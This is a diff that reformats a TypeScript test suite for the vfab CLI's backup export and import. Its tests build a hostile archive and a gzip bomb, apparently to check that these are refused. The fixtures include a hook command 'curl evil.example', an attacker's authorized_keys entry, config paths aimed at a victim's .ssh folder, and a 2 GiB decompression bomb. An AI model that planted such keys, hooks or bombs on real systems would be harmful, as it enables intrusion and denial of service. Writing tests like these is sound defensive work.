@@ -49,12 +49,16 @@ describe('export never overwrites', () => {
     fs.writeFileSync(target, 'precious\n');
     const r = sb.run(['system', 'export', '--output', target]);
     expect(r.code).toBe(4);
-    expect(r.stderr).toMatch(/precious\.txt already exists; nothing was written\. Choose another name, or add --force to replace it/);
+    expect(r.stderr).toMatch(
+      /precious\.txt already exists; nothing was written\. Choose another name, or add --force to replace it/,
+    );
     expect(fs.readFileSync(target, 'utf8')).toBe('precious\n');
     expect(fs.readdirSync(sb.root).filter((n) => n.includes('precious.txt.'))).toEqual([]);
 
     ok(['system', 'export', '--output', target, '--force']);
-    expect(ok(['system', 'import', '--backup', target, '--verify', '--json'])).toMatch(/"verified"/);
+    expect(ok(['system', 'import', '--backup', target, '--verify', '--json'])).toMatch(
+      /"verified"/,
+    );
   });
 
   it('a symbolic link, to a file or dangling, is an existing target', () => {
@@ -80,7 +84,9 @@ describe('export never overwrites', () => {
     for (const force of [[], ['--force']]) {
       const r = sb.run(['system', 'export', '--output', sb.configFile, ...force]);
       expect(r.code, r.stderr).toBe(5);
-      expect(r.stderr).toMatch(/is vfab's config file; an export never writes there, even with --force/);
+      expect(r.stderr).toMatch(
+        /is vfab's config file; an export never writes there, even with --force/,
+      );
     }
     expect(sha(sb.configFile)).toBe(before);
     expect(ok(['list', 'jobs'])).toMatch(/^one\t/);
@@ -115,10 +121,18 @@ describe('export never overwrites', () => {
       const viaLink = sb.run(['system', 'export', '--output', link, ...force]);
       expect(viaLink.code, viaLink.stderr).toBe(5);
       expect(viaLink.stderr).toMatch(/cfg-link\.tar\.gz \(.*config\.yaml\) is vfab's config file/);
-      const viaFolder = sb.run(['system', 'export', '--output', path.join(folder, 'journal.jsonl'), ...force]);
+      const viaFolder = sb.run([
+        'system',
+        'export',
+        '--output',
+        path.join(folder, 'journal.jsonl'),
+        ...force,
+      ]);
       expect(viaFolder.code, viaFolder.stderr).toBe(5);
       expect(viaFolder.stderr).toMatch(/is in vfab's workspace/);
-      expect(sb.run(['system', 'export', '--output', path.join(folder, 'new.tar.gz'), ...force]).code).toBe(5);
+      expect(
+        sb.run(['system', 'export', '--output', path.join(folder, 'new.tar.gz'), ...force]).code,
+      ).toBe(5);
     }
     expect(sha(sb.configFile)).toBe(cfg);
     expect(fs.readlinkSync(link)).toBe(sb.configFile);
@@ -136,7 +150,13 @@ describe('export never overwrites', () => {
     }
     expect(sha(mine)).toBe(made);
     const before = installationHash();
-    for (const target of [path.join(sb.dataDir, 'x.tar.gz'), sb.dbFile, path.join(sb.dataDir, 'logs', 'x.tar.gz'), path.join(sb.dataDir, 'locks', 'x.tar.gz'), path.join(sb.jobsDir, 'x.tar.gz')]) {
+    for (const target of [
+      path.join(sb.dataDir, 'x.tar.gz'),
+      sb.dbFile,
+      path.join(sb.dataDir, 'logs', 'x.tar.gz'),
+      path.join(sb.dataDir, 'locks', 'x.tar.gz'),
+      path.join(sb.jobsDir, 'x.tar.gz'),
+    ]) {
       for (const force of [[], ['--force']]) {
         const r = sb.run(['system', 'export', '--output', target, ...force]);
         expect(r.code, `${target}: ${r.stderr}`).toBe(5);
@@ -157,21 +177,62 @@ describe('an imported archive never chooses paths', () => {
     const notes = path.join(victim, 'notes.txt');
     fs.writeFileSync(notes, 'keep me\n');
     const outside = treeHash(victim);
-    const config = [`workspace: ${ssh}`, 'logging:', `  log_file: ${notes}`, '  level: DEBUG', 'backups:', `  dir: ${victim}`, 'device:', '  port: /dev/evil', 'websocket:', '  host: 0.0.0.0', 'hooks:', '  COMPLETED:', '    - command: curl evil.example', 'paper:', '  default_size: A3', ''].join('\n');
+    const config = [
+      `workspace: ${ssh}`,
+      'logging:',
+      `  log_file: ${notes}`,
+      '  level: DEBUG',
+      'backups:',
+      `  dir: ${victim}`,
+      'device:',
+      '  port: /dev/evil',
+      'websocket:',
+      '  host: 0.0.0.0',
+      'hooks:',
+      '  COMPLETED:',
+      '    - command: curl evil.example',
+      'paper:',
+      '  default_size: A3',
+      '',
+    ].join('\n');
     const hostile = path.join(sb.root, 'hostile.tar.gz');
-    fs.writeFileSync(hostile, manifestArchive([{ name: 'config/config.yaml', body: config }, { name: 'workspace/authorized_keys', body: 'ssh-ed25519 AAAA the-attacker\n' }]));
+    fs.writeFileSync(
+      hostile,
+      manifestArchive([
+        { name: 'config/config.yaml', body: config },
+        { name: 'workspace/authorized_keys', body: 'ssh-ed25519 AAAA the-attacker\n' },
+      ]),
+    );
 
-    const verified = JSON.parse(ok(['system', 'import', '--backup', hostile, '--verify', '--json'])).verified;
-    expect(verified.keptSettings.map((k: { key: string }) => k.key).sort()).toEqual(['backups.dir', 'device.port', 'hooks', 'logging.log_file', 'websocket.host', 'workspace']);
+    const verified = JSON.parse(
+      ok(['system', 'import', '--backup', hostile, '--verify', '--json']),
+    ).verified;
+    expect(verified.keptSettings.map((k: { key: string }) => k.key).sort()).toEqual([
+      'backups.dir',
+      'device.port',
+      'hooks',
+      'logging.log_file',
+      'websocket.host',
+      'workspace',
+    ]);
 
     const r = sb.run(['system', 'import', '--backup', hostile]);
     expect(r.code, r.stderr).toBe(0);
-    expect(r.stderr).toMatch(/note: config workspace: this installation's unset was kept; the archive's '.*victim\/\.ssh' was not used/);
-    expect(r.stderr).toMatch(/note: config logging\.log_file: this installation's unset was kept; the archive's '.*notes\.txt' was not used/);
-    expect(r.stderr).toMatch(/note: config device\.port: .* the archive's '\/dev\/evil' was not used/);
+    expect(r.stderr).toMatch(
+      /note: config workspace: this installation's unset was kept; the archive's '.*victim\/\.ssh' was not used/,
+    );
+    expect(r.stderr).toMatch(
+      /note: config logging\.log_file: this installation's unset was kept; the archive's '.*notes\.txt' was not used/,
+    );
+    expect(r.stderr).toMatch(
+      /note: config device\.port: .* the archive's '\/dev\/evil' was not used/,
+    );
     expect(treeHash(victim)).toEqual(outside);
     const paths = JSON.parse(ok(['info', 'system', '--json'])).system.paths;
-    expect(paths).toMatchObject({ workspaceDir: path.join(sb.dataDir, 'workspace'), logFile: sb.logFile });
+    expect(paths).toMatchObject({
+      workspaceDir: path.join(sb.dataDir, 'workspace'),
+      logFile: sb.logFile,
+    });
     const restored = fs.readFileSync(sb.configFile, 'utf8');
     expect(restored).toMatch(/default_size: A3/);
     expect(restored).not.toContain(victim);
@@ -200,8 +261,28 @@ describe('an imported archive never chooses paths', () => {
   });
 
   it.each([
-    ['workspace/jobs/one/plot.owner', JSON.stringify({ job: 'one', device: 'virtual', pid: 4242, host: 'elsewhere', since: new Date().toISOString(), refreshed: new Date().toISOString() })],
-    ['locks/device-virtual.owner', JSON.stringify({ job: 'one', device: 'virtual', pid: 4242, host: 'elsewhere', since: new Date().toISOString(), refreshed: new Date().toISOString() })],
+    [
+      'workspace/jobs/one/plot.owner',
+      JSON.stringify({
+        job: 'one',
+        device: 'virtual',
+        pid: 4242,
+        host: 'elsewhere',
+        since: new Date().toISOString(),
+        refreshed: new Date().toISOString(),
+      }),
+    ],
+    [
+      'locks/device-virtual.owner',
+      JSON.stringify({
+        job: 'one',
+        device: 'virtual',
+        pid: 4242,
+        host: 'elsewhere',
+        since: new Date().toISOString(),
+        refreshed: new Date().toISOString(),
+      }),
+    ],
     ['workspace/jobs/one/pause.request', '1\n'],
     ['workspace/jobs/one/transition.lock', '{}'],
   ])('an archive holding %s is refused and nothing changes', (member, body) => {
@@ -248,42 +329,77 @@ function diskUsage(dir: string): number {
 describe('a gzip bomb', () => {
   beforeEach(setUp);
 
-  it('2 GiB of zeros in a 2 MB archive is refused having written nothing, and leaves no staging folder', { timeout: 120_000 }, async () => {
-    const GIB2 = 2 * 1024 ** 3;
-    const bomb = path.join(sb.root, 'bomb.tar.gz');
-    const manifest = Buffer.from(JSON.stringify({ format: 'vfab-backup', format_version: 1, vfab_version: 'test', created_at: '', host: 'x', source: {}, jobs: 0, database: false, notes: [], files: [] }));
-    async function* tar(): AsyncGenerator<Buffer> {
-      yield rawHeader('workspace/jobs/one/src.svg', GIB2);
-      const zeros = Buffer.alloc(1024 * 1024);
-      for (let i = 0; i < GIB2 / zeros.length; i++) yield zeros;
-      yield rawHeader('manifest.json', manifest.length);
-      yield Buffer.concat([manifest, Buffer.alloc((512 - (manifest.length % 512)) % 512), Buffer.alloc(1024)]);
-    }
-    await pipeline(Readable.from(tar()), zlib.createGzip({ level: 9 }), fs.createWriteStream(bomb));
-    expect(fs.statSync(bomb).size).toBeLessThan(3 * 1024 * 1024);
+  it(
+    '2 GiB of zeros in a 2 MB archive is refused having written nothing, and leaves no staging folder',
+    { timeout: 120_000 },
+    async () => {
+      const GIB2 = 2 * 1024 ** 3;
+      const bomb = path.join(sb.root, 'bomb.tar.gz');
+      const manifest = Buffer.from(
+        JSON.stringify({
+          format: 'vfab-backup',
+          format_version: 1,
+          vfab_version: 'test',
+          created_at: '',
+          host: 'x',
+          source: {},
+          jobs: 0,
+          database: false,
+          notes: [],
+          files: [],
+        }),
+      );
+      async function* tar(): AsyncGenerator<Buffer> {
+        yield rawHeader('workspace/jobs/one/src.svg', GIB2);
+        const zeros = Buffer.alloc(1024 * 1024);
+        for (let i = 0; i < GIB2 / zeros.length; i++) yield zeros;
+        yield rawHeader('manifest.json', manifest.length);
+        yield Buffer.concat([
+          manifest,
+          Buffer.alloc((512 - (manifest.length % 512)) % 512),
+          Buffer.alloc(1024),
+        ]);
+      }
+      await pipeline(
+        Readable.from(tar()),
+        zlib.createGzip({ level: 9 }),
+        fs.createWriteStream(bomb),
+      );
+      expect(fs.statSync(bomb).size).toBeLessThan(3 * 1024 * 1024);
 
-    const before = installationHash();
-    const start = diskUsage(sb.dataDir);
-    let most = start;
-    const child = endWithTest(spawn(process.execPath, [path.join(ROOT, 'bin', 'vfab.js'), 'system', 'import', '--backup', bomb], { env: sb.env, cwd: sb.root, stdio: ['ignore', 'pipe', 'pipe'] }));
-    let stderr = '';
-    child.stderr.setEncoding('utf8').on('data', (s: string) => (stderr += s));
-    const exited = new Promise<number | null>((resolve) => child.on('exit', (code) => resolve(code)));
-    const watch = setInterval(() => {
-      most = Math.max(most, diskUsage(sb.dataDir));
-    }, 50);
-    try {
-      const code = await exited;
-      expect(stderr).toMatch(/'workspace\/jobs\/one\/src\.svg' is in the archive but not in its manifest/);
-      expect(code).toBe(5);
-    } finally {
-      clearInterval(watch);
-      if (child.exitCode === null) child.kill();
-    }
-    expect(most - start).toBeLessThan(4 * 1024 * 1024);
-    expect(fs.readdirSync(sb.dataDir).filter((n) => n.startsWith('.import-'))).toEqual([]);
-    expect(installationHash()).toEqual(before);
-  });
+      const before = installationHash();
+      const start = diskUsage(sb.dataDir);
+      let most = start;
+      const child = endWithTest(
+        spawn(
+          process.execPath,
+          [path.join(ROOT, 'bin', 'vfab.js'), 'system', 'import', '--backup', bomb],
+          { env: sb.env, cwd: sb.root, stdio: ['ignore', 'pipe', 'pipe'] },
+        ),
+      );
+      let stderr = '';
+      child.stderr.setEncoding('utf8').on('data', (s: string) => (stderr += s));
+      const exited = new Promise<number | null>((resolve) =>
+        child.on('exit', (code) => resolve(code)),
+      );
+      const watch = setInterval(() => {
+        most = Math.max(most, diskUsage(sb.dataDir));
+      }, 50);
+      try {
+        const code = await exited;
+        expect(stderr).toMatch(
+          /'workspace\/jobs\/one\/src\.svg' is in the archive but not in its manifest/,
+        );
+        expect(code).toBe(5);
+      } finally {
+        clearInterval(watch);
+        if (child.exitCode === null) child.kill();
+      }
+      expect(most - start).toBeLessThan(4 * 1024 * 1024);
+      expect(fs.readdirSync(sb.dataDir).filter((n) => n.startsWith('.import-'))).toEqual([]);
+      expect(installationHash()).toEqual(before);
+    },
+  );
 });
 
 describe('an owner left by another host', () => {
@@ -295,7 +411,17 @@ describe('an owner left by another host', () => {
     ok(['add', 'job', 'two', TRIVIAL]);
     const owner = path.join(sb.jobsDir, 'two', 'plot.owner');
     const write = (at: Date) => {
-      fs.writeFileSync(owner, JSON.stringify({ job: 'two', device: 'virtual', pid: 4242, host: `not-${os.hostname()}`, since: at.toISOString(), refreshed: at.toISOString() }));
+      fs.writeFileSync(
+        owner,
+        JSON.stringify({
+          job: 'two',
+          device: 'virtual',
+          pid: 4242,
+          host: `not-${os.hostname()}`,
+          since: at.toISOString(),
+          refreshed: at.toISOString(),
+        }),
+      );
       fs.utimesSync(owner, at, at);
     };
     write(new Date());
